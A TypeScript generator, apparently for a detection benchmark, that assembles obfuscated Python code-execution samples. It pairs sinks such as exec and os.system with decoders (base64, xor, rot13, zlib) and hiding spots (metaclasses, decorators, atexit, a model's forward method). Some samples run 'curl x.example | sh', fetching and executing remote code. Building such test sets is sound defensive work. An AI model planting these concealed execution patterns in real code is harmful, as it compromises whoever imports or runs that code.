import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import type { SeededRandom } from '../../src/core/random.ts';

/** A program that runs something, put together of a sink, a decoder, a way between them and a place. */
export interface PythonPayload {
  readonly name: string;
  readonly text: string;
  /** Whether the payload is kept back: nothing is tuned by it. */
  readonly held: boolean;
  /** Whether what it runs is hidden behind a decoder. */
  readonly hides: boolean;
}

type Make = (text: string) => string;

const quoted = (text: string) => JSON.stringify(text);
const codes = (text: string, change: (code: number) => number = (code) => code) =>
  `[${[...Buffer.from(text, 'latin1')].map(change).join(', ')}]`;
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (letter) => String.fromCharCode(letter.charCodeAt(0) + (/[a-m]/i.test(letter) ? 13 : -13)));

/** Expressions that give a text. */
const DECODERS: Readonly<Record<string, Make>> = {
  plain: quoted,
  joined: (text) => `(${quoted(text.slice(0, 3))} + ${quoted(text.slice(3))})`,
  base64: (text) => `__import__('base64').b64decode(${quoted(base64(text))}).decode()`,
  urlsafe: (text) => `base64.urlsafe_b64decode(${quoted(base64(text))}).decode('utf-8')`,
  hex: (text) => `bytes.fromhex(${quoted(Buffer.from(text).toString('hex'))}).decode()`,
  unhexlify: (text) => `binascii.unhexlify(b${quoted(Buffer.from(text).toString('hex'))}).decode()`,
  zlib: (text) => `zlib.decompress(base64.b64decode(${quoted(deflateSync(text).toString('base64'))})).decode()`,
  characters: (text) => `''.join(chr(c) for c in ${codes(text)})`,
  mapped: (text) => `''.join(map(chr, ${codes(text)}))`,
  bytes: (text) => `bytes(${codes(text)}).decode()`,
  xor: (text) => `''.join(chr(c ^ 23) for c in ${codes(text, (code) => code ^ 23)})`,
  shifted: (text) => `''.join([chr(c - 3) for c in ${codes(text, (code) => code + 3)}])`,
  reversed: (text) => `${quoted([...text].reverse().join(''))}[::-1]`,
  turned: (text) => `''.join(reversed(${quoted([...text].reverse().join(''))}))`,
  rot13: (text) => `codecs.decode(${quoted(rot13(text))}, 'rot13')`,
  codec: (text) => `codecs.decode(b${quoted(Buffer.from(text).toString('hex'))}, 'hex').decode()`,
  bytearray: (text) => `bytearray(b ^ 5 for b in ${codes(text, (code) => code ^ 5)}).decode()`,
  formatted: (text) =>
    `${quoted(`${'%c'.repeat(text.length)}`)} % (${[...text].map((letter) => letter.charCodeAt(0)).join(', ')},)`,
};

const PROGRAM = "import os; os.system('id')";
/** Expressions that run something; `hidden` makes the text that they run. */
const SINKS: Readonly<Record<string, (hidden: Make) => string>> = {
  exec: (hidden) => `exec(${hidden(PROGRAM)})`,
  eval: (hidden) => `eval(${hidden("__import__('os').system('id')")})`,
  compile: (hidden) => `exec(compile(${hidden(PROGRAM)}, 'x', 'exec'))`,
  system: (hidden) => `os.system(${hidden('curl x.example | sh')})`,
  popen: (hidden) => `os.popen(${hidden('curl x.example | sh')}).read()`,
  subprocess: (hidden) => `subprocess.Popen(${hidden('curl x.example | sh')}, shell=True)`,
  run: (hidden) => `subprocess.run([${hidden('/bin/sh')}, '-c', 'id'])`,
  module: (hidden) => `__import__(${hidden('os')}).system('id')`,
  name: (hidden) => `getattr(os, ${hidden('system')})('id')`,
  importlib: (hidden) => `getattr(importlib.import_module(${hidden('subprocess')}), 'call')(['id'])`,
  builtins: (hidden) => `getattr(builtins, ${hidden('exec')})(${quoted(PROGRAM)})`,
  globals: (hidden) => `globals()['__builtins__'][${hidden('exec')}](${quoted(PROGRAM)})`,
  modules: (hidden) => `sys.modules[${hidden('os')}].system('id')`,
  dictionary: (hidden) => `os.__dict__[${hidden('system')}]('id')`,
  native: (hidden) => `ctypes.CDLL(${hidden('./payload.so')})`,
};

/** Ways to run an expression; each gives a program. */
const WAYS: Readonly<Record<string, Make>> = {
  direct: (run) => run,
  assigned: (run) => `result = ${run}`,
  function: (run) => `def start():\n    return ${run}\nstart()`,
  lambda: (run) => `(lambda: ${run})()`,
  argument: (run) => `def start(f):\n    return f()\nstart(lambda: ${run})`,
  default: (run) => `def start(x=${run}):\n    pass`,
  'class body': (run) => `class Config:\n    value = ${run}`,
  initialiser: (run) => `class Helper:\n    def __init__(self):\n        self.value = ${run}\nHelper()`,
  call: (run) => `class Helper:\n    def __call__(self):\n        return ${run}\nhelper = Helper()\nhelper()`,
  decorator: (run) => `def register(f):\n    ${run}\n    return f\n@register\ndef start():\n    pass`,
  metaclass: (run) =>
    `class Meta(type):\n    def __new__(cls, *args):\n        ${run}\n        return type.__new__(cls, *args)\nclass Base(metaclass=Meta):\n    pass`,
  subclass: (run) => `class Base:\n    def __init_subclass__(cls):\n        ${run}\nclass Derived(Base):\n    pass`,
  comprehension: (run) => `[${run} for _ in range(1)]`,
  generator: (run) => `def parts():\n    yield ${run}\nlist(parts())`,
  'module getattr': (run) => `def __getattr__(name):\n    ${run}`,
  'try block': (run) => `try:\n    import missing\nexcept ImportError:\n    ${run}`,
  condition: (run) => `if True:\n    ${run}`,
  loop: (run) => `while True:\n    ${run}\n    break`,
  context: (run) =>
    `class Guard:\n    def __enter__(self):\n        ${run}\n    def __exit__(self, *args):\n        pass\nwith Guard():\n    pass`,
  thread: (run) => `def start():\n    ${run}\nthreading.Thread(target=start).start()`,
  atexit: (run) => `def start():\n    ${run}\natexit.register(start)`,
  operator: (run) => `class Number:\n    def __add__(self, other):\n        return ${run}\nNumber() + 1`,
  walrus: (run) => `if (result := ${run}):\n    pass`,
  annotation: (run) => `value: ${run} = 1`,
  'f-string': (run) => `f"""{(${run})!r}"""`,
  method: (run) => `class Model(Base):\n    def forward(self, x):\n        ${run}\n        return x`,
  'method of a helper': (run) =>
    `def step(x):\n    ${run}\nclass Model(Base):\n    def __init__(self, config):\n        step(config)`,
};

const IMPORTS =
  'import os, sys, base64, zlib, codecs, binascii, subprocess, importlib, builtins, ctypes, threading, atexit\nclass Base: pass\n';
const MODEL = '\nclass Model(Base):\n    pass\n';

/** A payload that is chosen by chance. Half of all, by their digest, are held back. */
export function pythonPayload(random: SeededRandom): PythonPayload {
  const pick = <T>(table: Readonly<Record<string, T>>) => {
    const entries = Object.entries(table);
    const chosen = entries[random.below(entries.length)];
    if (chosen === undefined) throw new Error('the table is empty');
    return chosen;
  };
  const [sink, reach] = pick(SINKS);
  const [decoder, hide] = pick(DECODERS);
  const [way, wrap] = pick(WAYS);
  const name = `${sink}, ${decoder}, ${way}`;
  const program = wrap(reach(hide));
  const text = `${IMPORTS}${program}${program.includes('class Model') ? '\n' : MODEL}`;
  const held = (createHash('sha256').update(name).digest()[0] ?? 0) % 2 === 1;
  return { name, text, held, hides: decoder !== 'plain' && decoder !== 'joined' };
}
